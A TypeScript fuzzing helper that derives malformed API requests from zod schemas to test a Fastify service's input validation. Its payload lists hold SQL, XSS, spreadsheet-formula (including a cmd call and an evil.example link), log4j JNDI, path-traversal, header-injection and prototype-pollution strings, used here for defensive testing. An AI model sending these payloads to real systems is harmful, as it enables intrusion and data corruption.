import fc from 'fast-check';
import type { z } from 'zod';

/**
 * Generators of malformed requests, derived from a route's own zod schemas (docs/spec/design.md §Contract
 * decisions the spec leaves open).
 *
 * A route's inputs are its `params`, `querystring` and `body` schemas. {@link validSample} builds a
 * valid-shaped value of each by trying plain candidates against the schema itself; {@link badInputs}
 * then spoils one field at a time (or the body as a whole): every field gets the curated mutations of
 * its kind (numbers: negative, 1e308, 2^31, 2^53 + 1, fractions, numbers as text; dates: 30 February,
 * year 99999, year 0, empty; text: 100,000 characters, NUL bytes, SQL, HTML and spreadsheet
 * injections; wrong types; dropped), and a fast-check arbitrary mixes those with random values of
 * any kind. Unknown fields and unreadable bodies are added per part. Nothing here knows a route by
 * name: a route added later is covered as soon as it declares its schemas.
 */

/** The parts of a request that a route validates, in the order Fastify validates them. */
export const PARTS = ['params', 'body', 'querystring'] as const;
export type Part = (typeof PARTS)[number];

/** A route's zod schemas, as declared in its `schema` option. */
export type RouteInputs = Partial<Record<Part, z.ZodType>>;

/** Query values as Fastify parses them: a repeated key becomes an array. */
export type QueryValues = Record<string, string | string[]>;

/** The three parts of one request; `body` is a JSON value, or `undefined` for none. */
export type RequestParts = { params: Record<string, string>; query: QueryValues; body: unknown };

/**
 * One malformed request: the `part` and dotted `path` that were spoiled (`''` for the part as a whole),
 * how (`kind`), and the request itself. `rawBody` replaces the JSON body when set (not JSON, too large,
 * prototype keys); `contentType` replaces `application/json`; `marker` is a value that must never be stored.
 */
export type BadInput = RequestParts & {
  part: Part;
  path: string;
  kind: string;
  rawBody?: string;
  contentType?: string;
  marker?: string;
};

/** How a part travels: JSON values in a body, strings in a path or a query string. */
type Encoding = 'json' | 'text';

/** The zod 4 definition fields this walk reads (`schema._zod.def`). */
type Definition = {
  type: string;
  innerType?: z.ZodType;
  in?: z.ZodType;
  shape?: Record<string, z.ZodType>;
  element?: z.ZodType;
  options?: z.ZodType[];
  entries?: Record<string, string | number>;
  values?: unknown[];
};

const definition = (schema: z.ZodType) => schema._zod.def as unknown as Definition;

/** True for a zod schema (Fastify's `schema` option is untyped). */
export function isZodSchema(value: unknown): value is z.ZodType {
  return typeof value === 'object' && value !== null && '_zod' in value && 'safeParse' in value;
}

/** The schema under optional, nullable, default, readonly and pipe wrappers (the input side of a pipe). */
function unwrap(schema: z.ZodType): z.ZodType {
  let current = schema;
  for (let depth = 0; depth < 20; depth += 1) {
    const def = definition(current);
    const inner =
      def.type === 'pipe'
        ? def.in
        : ['optional', 'nullable', 'default', 'prefault', 'readonly', 'catch', 'nonoptional'].includes(
              def.type,
            )
          ? def.innerType
          : undefined;
    if (!inner) return current;
    current = inner;
  }
  return current;
}

/** A password-like string: long enough for the password rules, neither common nor an email. */
const PASSWORD_LIKE = 'Quartz-Lantern-Orchard-73';

/** Plain values tried in order until one satisfies a leaf schema. */
const CANDIDATES: Record<Encoding, unknown[]> = {
  json: [
    'Valid Name',
    'someone@example.org',
    '2025-01-15',
    'FR7630006000011234567890189',
    PASSWORD_LIKE,
    '',
    1,
    2025,
    0,
    false,
    true,
    null,
  ],
  // Path ids point at the second record of each kind (the first is used by bodies), years at 2025.
  text: ['2', '2025', '2025-01-15', 'Valid', ''],
};

/**
 * A valid value for `schema`, built from plain candidates (objects key by key, arrays with one
 * element, records empty), or `undefined` when none fits. In a body, keys named `id` are left out: they are optional
 * and must match the path when given.
 */
export function validSample(schema: z.ZodType, encoding: Encoding): unknown {
  const core = unwrap(schema);
  const def = definition(core);
  let candidates: unknown[] = CANDIDATES[encoding];
  if (def.type === 'object' && def.shape) {
    const value: Record<string, unknown> = {};
    for (const [key, field] of Object.entries(def.shape)) {
      if (key === 'id' && encoding === 'json') continue;
      const sample = validSample(field, encoding);
      if (sample !== undefined) value[key] = sample;
    }
    candidates = [value];
  } else if (def.type === 'array' && def.element) {
    const element = validSample(def.element, encoding);
    candidates = element === undefined ? [[]] : [[element], []];
  } else if (def.type === 'record') {
    candidates = [{}];
  } else if (def.type === 'enum' && def.entries) {
    candidates = Object.values(def.entries).map((entry) => (encoding === 'text' ? String(entry) : entry));
  } else if (def.type === 'literal' && def.values) {
    candidates = def.values;
  } else if (def.type === 'union' && def.options) {
    candidates = [...def.options.map((option) => validSample(option, encoding)), ...candidates];
  }
  return candidates.find((candidate) => candidate !== undefined && schema.safeParse(candidate).success);
}

/** What a field holds, which decides the mutations worth trying on it. */
type FieldKind = 'number' | 'date' | 'text' | 'boolean' | 'list' | 'object' | 'choice';

/**
 * A field that can be spoiled: its path from the part's root, what it holds, and whether the base
 * request has it (only then can it be dropped).
 */
type Field = { path: Array<string | number>; kind: FieldKind; present: boolean };

const DATE_SHAPE = /^\d{4}-\d{2}-\d{2}$/;

/** The kind of a field, from its base value when there is one, else from its schema. */
function kindOf(schema: z.ZodType, value: unknown): FieldKind {
  if (typeof value === 'number') return 'number';
  if (typeof value === 'boolean') return 'boolean';
  if (Array.isArray(value)) return 'list';
  if (typeof value === 'string') {
    if (DATE_SHAPE.test(value)) return 'date';
    // Query and path values are text; one the schema reads as a number is a number.
    if (/^\d+$/.test(value)) return 'number';
  }
  const type = definition(unwrap(schema)).type;
  if (type === 'number' || type === 'int') return 'number';
  if (type === 'boolean') return 'boolean';
  if (type === 'array') return 'list';
  if (type === 'object') return 'object';
  if (type === 'string') return 'text';
  return 'choice';
}

/** Every key of an object schema, recursively through nested objects and the first element of arrays of objects. */
function fieldsOf(schema: z.ZodType, value: unknown, path: Array<string | number> = []): Field[] {
  const def = definition(unwrap(schema));
  if (def.type !== 'object' || !def.shape) return [];
  const record = (typeof value === 'object' && value !== null ? value : {}) as Record<string, unknown>;
  const fields: Field[] = [];
  for (const [key, field] of Object.entries(def.shape)) {
    const fieldPath = [...path, key];
    fields.push({ path: fieldPath, kind: kindOf(field, record[key]), present: key in record });
    const fieldDef = definition(unwrap(field));
    if (fieldDef.type === 'object') fields.push(...fieldsOf(field, record[key], fieldPath));
    const first = Array.isArray(record[key]) ? (record[key] as unknown[])[0] : undefined;
    if (fieldDef.type === 'array' && fieldDef.element && first !== undefined) {
      fields.push(...fieldsOf(fieldDef.element, first, [...fieldPath, 0]));
    }
  }
  return fields;
}

/** The value of a part of a request, by the schema's part name. */
function partValue(base: RequestParts, part: Part): unknown {
  return part === 'querystring' ? base.query : base[part];
}

/** 100,000 characters: far beyond every limit of the contract. */
export const LONG_TEXT = 'x'.repeat(100_000);

/** Text that would do harm if a layer interpreted it: SQL, HTML, spreadsheet formulas, NUL bytes, templates. */
export const INJECTIONS = [
  "'; drop table subscribers; --",
  "Robert'); DROP TABLE users;--",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '+SUM(1,1)',
  '@SUM(1,1)',
  '\u0000',
  'nul\u0000inside',
  '\u0000'.repeat(50),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, as text on purpose.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '{firstName}{organisationName}',
  '../../../../etc/passwd',
  '\\x00\\',
  '\u202Egnp.exe',
  '\uFEFF',
  '%00',
  '🙂'.repeat(30),
  '\r\nBcc: victim@example.org',
];

/** Numbers that are negative, huge, beyond 32-bit and 53-bit integers, or fractional. */
export const BAD_NUMBERS = [
  -1,
  0,
  -0.5,
  1e308,
  -1e308,
  2 ** 53 + 1,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31) - 1,
  // 99999999999999999999 as JSON.parse reads it (the text form is in NUMBERISH_TEXT).
  1e20,
  1.5,
  0.001,
  1e-7,
  12.345,
  5e-324,
];

/** Strings that look like numbers to a lax parser. */
export const NUMBERISH_TEXT = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e308',
  '-1',
  '0',
  '1.5',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '-2147483649',
  '0x10',
  ' 1',
  '1,5',
  '--1',
  '1e',
  '1e-400',
  '+1',
  'abc',
  '1 OR 1=1',
];

/** Dates that do not exist, are out of range, or are not `YYYY-MM-DD`. */
export const BAD_DATES = [
  '2026-02-30',
  '2025-02-29',
  '99999-01-01',
  '',
  '2025-13-01',
  '2025-00-10',
  '0000-00-00',
  '0000-01-01',
  '0001-01-01',
  '1899-12-31',
  '2025-1-1',
  '01/02/2025',
  '2025-01-01T00:00:00Z',
  '-2025-01-01',
  'yesterday',
  '5874898-01-01',
];

/** The text mutations tried on every text field, before random ones. */
const CURATED_TEXT = [
  LONG_TEXT,
  '\u0000',
  'nul\u0000inside',
  "'; drop table subscribers; --",
  '<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
];

/** The subsets of the lists above tried on every field of their kind; random runs draw from the whole lists. */
const CURATED_NUMBERS = [-1, 0, 1e308, 2 ** 53 + 1, 2 ** 31, 1e20, 1.5, 0.001];
const CURATED_NUMBERISH_TEXT = [
  'NaN',
  'Infinity',
  '1e308',
  '-1',
  '1.5',
  '99999999999999999999',
  '2147483648',
  '0x10',
  'abc',
];
const CURATED_DATES = [
  '2026-02-30',
  '99999-01-01',
  '',
  '2025-13-01',
  '0000-01-01',
  '01/02/2025',
  '2025-01-01T00:00:00Z',
];

/** JSON values of every type, for a field that expects another. */
const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, 'text', '', [], [1, 2], {}, { nested: 'x' }];

/** Keys that no body declares, some shaped like privileges. */
const UNKNOWN_KEYS = [
  'isAdmin',
  'role',
  'passwordHash',
  'deletedAt',
  'addedBy',
  'version',
  'sessionId',
  '$where',
  'unknownField',
];

/** A marker put in unknown fields: it must never appear in any table. */
export const UNKNOWN_FIELD_MARKER = 'zz-unknown-field-marker-zz';

/** A new value for a field (`value`), or dropping it (`drop`); `kind` says which mutation it is. */
type Mutation = { kind: string; value?: unknown; drop?: true };

const mutations = (kind: string, values: readonly unknown[]): Mutation[] =>
  values.map((value) => ({ kind, value }));

/** The values tried on a field of each kind, in JSON (a body) and as text (a path or a query string). */
const CURATED: Record<'json' | 'text', Record<FieldKind, Mutation[]>> = {
  json: {
    number: [...mutations('bad number', CURATED_NUMBERS), ...mutations('wrong type', ['1', null, true])],
    date: [...mutations('bad date', CURATED_DATES), ...mutations('wrong type', [20250115])],
    text: [...mutations('text', CURATED_TEXT), ...mutations('wrong type', [123, ['x']])],
    boolean: mutations('wrong type', ['true', 1, null]),
    list: [
      ...mutations('wrong type', ['x', null, [null], [LONG_TEXT]]),
      { kind: 'long list', value: Array.from({ length: 1_000 }, () => 'Valid Name') },
    ],
    object: mutations('wrong type', [null, 'x', []]),
    choice: mutations('wrong type', ['', 'unknown', 123, null, '\u0000', LONG_TEXT]),
  },
  text: {
    number: [
      ...mutations('number as text', CURATED_NUMBERISH_TEXT),
      ...mutations('text', ['\u0000', LONG_TEXT]),
    ],
    date: [...mutations('bad date', CURATED_DATES.filter(Boolean)), ...mutations('text', ['\u0000'])],
    text: mutations('text', CURATED_TEXT.slice(0, 4)),
    boolean: mutations('wrong type', ['yes', '2', '\u0000']),
    list: mutations('text', ['x', '\u0000']),
    object: mutations('text', ['x', '\u0000']),
    choice: mutations('wrong type', ['unknown', '-1', '1.5', '99999999999999999999', '\u0000', LONG_TEXT]),
  },
};

const pick = <T>(values: readonly T[]) => fc.constantFrom(...values);

const injectionText = fc.oneof(
  pick(INJECTIONS),
  fc
    .tuple(fc.string({ maxLength: 10 }), pick(INJECTIONS), fc.string({ maxLength: 10 }))
    .map((parts) => parts.join('')),
);

/** Long text of several shapes: plain, accented (multi-byte), NUL-terminated. */
const longText = fc.oneof(
  fc.constant(LONG_TEXT),
  fc.integer({ min: 1_000, max: 100_000 }).map((length) => 'é'.repeat(length)),
  fc.constant(`${'a'.repeat(99_999)}\u0000`),
);

/** Any replacement value for a JSON field, whatever it holds. */
const jsonMutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: pick(WRONG_TYPES).map((value) => ({ kind: 'wrong type', value })) },
  { weight: 2, arbitrary: pick(BAD_NUMBERS).map((value) => ({ kind: 'bad number', value })) },
  {
    weight: 1,
    arbitrary: fc
      .double({ noNaN: true, noDefaultInfinity: true })
      .map((value) => ({ kind: 'random number', value })),
  },
  {
    weight: 1,
    arbitrary: fc
      .bigInt({ min: -(10n ** 30n), max: 10n ** 30n })
      .map((value) => ({ kind: 'big integer', value: Number(value) })),
  },
  { weight: 1, arbitrary: pick(NUMBERISH_TEXT).map((value) => ({ kind: 'number as text', value })) },
  { weight: 1, arbitrary: pick(BAD_DATES).map((value) => ({ kind: 'bad date', value })) },
  { weight: 1, arbitrary: longText.map((value) => ({ kind: 'long text', value })) },
  { weight: 3, arbitrary: injectionText.map((value) => ({ kind: 'injection', value })) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: 'binary', maxLength: 300 }).map((value) => ({ kind: 'random text', value })),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 })
      // A "__proto__" key makes the whole body refused before any field is read (Fastify's
      // prototype-poisoning guard): that is the whole-body case "prototype key", not a field's.
      .filter((value) => !JSON.stringify(value).includes('"__proto__"'))
      .map((value) => ({ kind: 'array', value })),
  },
);

/** Any replacement value for a path parameter or a query value (always text). */
const textMutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: pick(NUMBERISH_TEXT).map((value) => ({ kind: 'number as text', value })) },
  { weight: 2, arbitrary: pick(BAD_NUMBERS.map(String)).map((value) => ({ kind: 'bad number', value })) },
  { weight: 2, arbitrary: pick(BAD_DATES).map((value) => ({ kind: 'bad date', value })) },
  { weight: 1, arbitrary: longText.map((value) => ({ kind: 'long text', value })) },
  { weight: 3, arbitrary: injectionText.map((value) => ({ kind: 'injection', value })) },
  {
    weight: 2,
    // Whole code points only: a lone surrogate cannot be percent-encoded.
    arbitrary: fc
      .string({ unit: 'grapheme', maxLength: 100 })
      .map((value) => ({ kind: 'random text', value })),
  },
);

/** A repeated query key: Fastify hands the route an array. */
const repeatedKey: fc.Arbitrary<Mutation> = fc
  .array(fc.constantFrom('1', '2025-01-15', 'x', ''), { minLength: 2, maxLength: 4 })
  .map((value) => ({ kind: 'repeated key', value }));

/** Path segments that would make the URL another route's (`/api/subscribers/` is the search). */
const NOT_A_SEGMENT = new Set(['', '.', '..']);

const DROPPED: Mutation = { kind: 'dropped', drop: true };

/** The curated mutations of one field: those of its kind, and dropping it when the base has it. */
function curatedMutations(field: Field, part: Part): Mutation[] {
  const listed = CURATED[part === 'body' ? 'json' : 'text'][field.kind];
  const usable =
    part === 'params' ? listed.filter((mutation) => !NOT_A_SEGMENT.has(String(mutation.value))) : listed;
  return field.present && part !== 'params' ? [...usable, DROPPED] : usable;
}

/** Random mutations of one field: mostly of its kind, some of any kind, a repeated key in a query. */
function randomMutation(field: Field, part: Part): fc.Arbitrary<Mutation> {
  const any =
    part === 'body'
      ? jsonMutation
      : part === 'querystring'
        ? fc.oneof({ weight: 6, arbitrary: textMutation }, { weight: 1, arbitrary: repeatedKey })
        : textMutation.filter((mutation) => !NOT_A_SEGMENT.has(String(mutation.value)));
  return fc.oneof(
    { weight: 1, arbitrary: pick(curatedMutations(field, part)) },
    { weight: 1, arbitrary: any },
  );
}

/** A body past the app's 2 MB limit. */
const TOO_LARGE_BODY = JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024 + 10) });

/** Deeply nested arrays: `[[[...]]]`. */
const deepNesting = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Bodies spoiled as a whole: not JSON, not an object, too large, prototype keys, wrong content type. */
const wholeBodyMutations = (
  base: unknown,
): Array<{ kind: string; rawBody: string; contentType?: string }> => [
  { kind: 'not JSON', rawBody: 'not json' },
  { kind: 'truncated JSON', rawBody: '{"name": "x' },
  { kind: 'empty body', rawBody: '' },
  { kind: 'JSON null', rawBody: 'null' },
  { kind: 'JSON array', rawBody: '[]' },
  { kind: 'JSON string', rawBody: '"text"' },
  { kind: 'JSON number', rawBody: '1e308' },
  { kind: 'NUL byte', rawBody: '\u0000' },
  { kind: 'deep nesting', rawBody: deepNesting(5_000) },
  { kind: 'prototype key', rawBody: '{"__proto__": {"isAdmin": true}}' },
  { kind: 'constructor key', rawBody: '{"constructor": {"prototype": {"isAdmin": true}}}' },
  { kind: 'too large', rawBody: TOO_LARGE_BODY },
  { kind: 'wrong content type', rawBody: JSON.stringify(base), contentType: 'text/plain' },
  { kind: 'form content type', rawBody: 'name=x&email=y', contentType: 'application/x-www-form-urlencoded' },
];

/** `value` with `mutation` applied at `path` (a copy; the base is not changed). */
function applyAt(value: unknown, path: Array<string | number>, mutation: Mutation): unknown {
  const [head, ...rest] = path;
  if (head === undefined) return mutation.value;
  const copy = (
    Array.isArray(value) ? [...(value as unknown[])] : { ...(value as Record<string, unknown>) }
  ) as Record<string | number, unknown>;
  if (rest.length === 0 && mutation.drop) {
    delete copy[head];
    return copy;
  }
  copy[head] = applyAt(copy[head], rest, mutation);
  return copy;
}

/** `base` with `mutation` applied to the field at `path` of `part`. */
function spoil(base: RequestParts, part: Part, path: Array<string | number>, mutation: Mutation): BadInput {
  const key = part === 'querystring' ? 'query' : part;
  return {
    ...base,
    [key]: applyAt(partValue(base, part), path, mutation),
    part,
    path: path.join('.'),
    kind: mutation.kind,
  } as BadInput;
}

/** Unknown fields in a part: the contract's objects strip them; they must be neither refused with a 5xx nor stored. */
function unknownFieldInputs(schema: z.ZodType, base: RequestParts, part: Part): BadInput[] {
  const known = new Set(fieldsOf(schema, partValue(base, part)).map((field) => field.path[0]));
  return UNKNOWN_KEYS.filter((key) => !known.has(key)).map((key) => ({
    ...spoil(base, part, [key], { kind: 'unknown field', value: UNKNOWN_FIELD_MARKER }),
    path: '',
    marker: UNKNOWN_FIELD_MARKER,
  }));
}

/**
 * Malformed requests for a route with the given schemas, around the valid-shaped request `base`:
 * `curated` tries every mutation of each field's kind, the whole-body spoilers and unknown fields
 * once; `random` is a fast-check arbitrary mixing those with random values of any kind.
 */
export function badInputs(
  inputs: RouteInputs,
  base: RequestParts,
): { curated: BadInput[]; random: fc.Arbitrary<BadInput> } {
  const curated: BadInput[] = [];
  const random: Array<fc.Arbitrary<BadInput>> = [];
  for (const part of PARTS) {
    const schema = inputs[part];
    if (!schema) continue;
    for (const field of fieldsOf(schema, partValue(base, part))) {
      curated.push(
        ...curatedMutations(field, part).map((mutation) => spoil(base, part, field.path, mutation)),
      );
      random.push(randomMutation(field, part).map((mutation) => spoil(base, part, field.path, mutation)));
    }
    if (part === 'params') continue;
    const unknown = unknownFieldInputs(schema, base, part);
    curated.push(...unknown.slice(0, 2));
    random.push(pick(unknown));
    if (part === 'body') {
      const whole = wholeBodyMutations(base.body).map((mutation) => ({
        ...base,
        part,
        path: '',
        ...mutation,
      }));
      curated.push(...whole);
      random.push(pick(whole));
    }
  }
  return { curated, random: fc.oneof(...random) };
}
